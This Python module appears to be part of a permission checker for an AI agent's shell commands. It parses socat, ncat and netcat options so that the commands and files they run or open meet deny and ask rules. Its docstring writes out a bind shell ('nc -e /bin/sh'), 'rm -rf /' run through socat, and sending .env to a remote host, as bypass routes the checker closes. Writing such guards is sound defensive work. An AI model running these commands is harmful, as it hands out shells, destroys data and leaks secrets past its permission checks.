"""Programs that connect a command or a file to a socket: socat, ncat and
netcat. `socat TCP-LISTEN:4444 EXEC:bash` and `nc -e /bin/sh HOST 4444`
hand a shell to whoever connects (a shell reading its input: refused, as
`bash` alone is), and `socat - SYSTEM:'rm -rf /'` or `ncat -c '…'` ran a
command a deny on `rm:*` never saw. The commands are held; the files
socat's addresses name are read and edit subjects, held to those tools'
deny and ask rules (`socat FILE:.env TCP:host:port` sends .env). Read for
`takers`.
"""

from __future__ import annotations

from .words import HELD, SplitError, Word, part_of

# socat 1.7 and 1.8: its options that take a value (`-lf FILE` is its log).
_SOCAT_VALUES = frozenset({"-b", "-t", "-T", "-L", "-W", "-lf", "-lp", "-S", "-r", "-R"})
# Address types that name a file: read, written, or either.
_SOCAT_FILES = {"file": "rw", "open": "rw", "gopen": "rw", "create": "w", "creat": "w"}


def _socat_address(word: Word) -> list:
    """What one socat address runs or opens."""
    kind, colon, rest = word.value.partition(":")
    kind = kind.lower()
    if not colon:
        # A word with a slash and no colon is a file (GOPEN); `-` and
        # STDIO, STDIN, STDOUT are socat's own streams.
        return _socat_file(part_of(word, word.value), "rw") if "/" in word.value else []
    params = rest.partition(",")[0]  # `EXEC:cmd,pty,stderr`: the options follow a comma
    if kind == "exec":
        return [("string", part_of(word, params))]  # socat splits it into words itself
    if kind == "system":
        return [("string", part_of(word, params))]  # `sh -c`
    if kind in _SOCAT_FILES:
        return _socat_file(part_of(word, params), _SOCAT_FILES[kind])
    return []


def _socat_file(word: Word, modes: str) -> list:
    out = [("reads", word)] if "r" in modes else []
    return out + ([("edits", word)] if "w" in modes else [])


def _socat_commands(words: list[Word], name: str) -> list | None:
    i = 1
    taken: list = []
    while i < len(words) and words[i].value[:1] == "-" and words[i].value != "-":
        option = words[i].value
        if option in _SOCAT_VALUES:
            if option == "-lf" and i + 1 < len(words):
                taken.append(("file", words[i + 1]))  # its log
            i += 1
        i += 1
    for word in words[i:]:
        taken += _socat_address(word)
    return [HELD] + taken if taken else None


# ncat 7 (nmap), netcat-traditional and OpenBSD's nc: `-e PROG` runs a
# program with no shell, `-c CMD` (ncat's --sh-exec) a shell string, and
# ncat's --lua-exec a Lua script (refused). Their options differ (OpenBSD's
# -c is a flag, -x a proxy), so they are read leniently: a letter not listed
# is a flag, and a word read as a command or an output file can only add
# what deny and ask rules see. Short options that take a value in one of them:
_NC_VALUE_LETTERS = frozenset("psgGiqwmxoIXTO")
_NC_LONG_VALUES = frozenset(
    """--source-port --source --wait --idle-timeout --max-conns --delay --proxy --proxy-type
    --proxy-auth --proxy-dns --allow --allowfile --deny --denyfile --ssl-cert --ssl-key
    --ssl-trustfile --ssl-ciphers --ssl-servername --ssl-alpn""".split()
)
_NC_RUNS = frozenset({"-e", "--exec", "-c", "--sh-exec"})
_NC_WRITES = frozenset({"-o", "--output", "--hex-dump", "-x"})


def _nc_options(words: list[Word]) -> list[tuple[str, Word]]:
    """The options that run something or write a file, with their values."""
    found: list[tuple[str, Word]] = []
    i, n = 1, len(words)
    while i < n:
        value = words[i].value
        i += 1
        if value[:2] == "--":
            option, eq, attached = value.partition("=")
            if option == "--lua-exec":
                raise SplitError(f"{words[0].value} --lua-exec cannot be evaluated statically")
            if option in _NC_RUNS or option in _NC_WRITES or option in _NC_LONG_VALUES:
                if eq:
                    found.append((option, part_of(words[i - 1], attached)))
                elif i < n:
                    found.append((option, words[i]))
                    i += 1
        elif value[:1] == "-" and len(value) > 1:
            for k in range(1, len(value)):
                letter = "-" + value[k]
                if letter in _NC_RUNS or value[k] in _NC_VALUE_LETTERS:
                    if k + 1 < len(value):
                        found.append((letter, part_of(words[i - 1], value[k + 1 :])))
                    elif i < n:
                        found.append((letter, words[i]))
                        i += 1
                    break
    return found


def _nc_commands(words: list[Word], name: str) -> list | None:
    taken: list = []
    for option, value in _nc_options(words):
        if option in _NC_RUNS:
            taken.append(("string", value))
        elif option in _NC_WRITES and (option != "-x" or name == "ncat"):
            taken.append(("edits", value))  # its output or hex dump (OpenBSD's -x: a proxy)
    return [HELD] + taken if taken else None


TAKERS = {
    "socat": _socat_commands,
    "ncat": _nc_commands,
    "nc": _nc_commands,
    "netcat": _nc_commands,
}
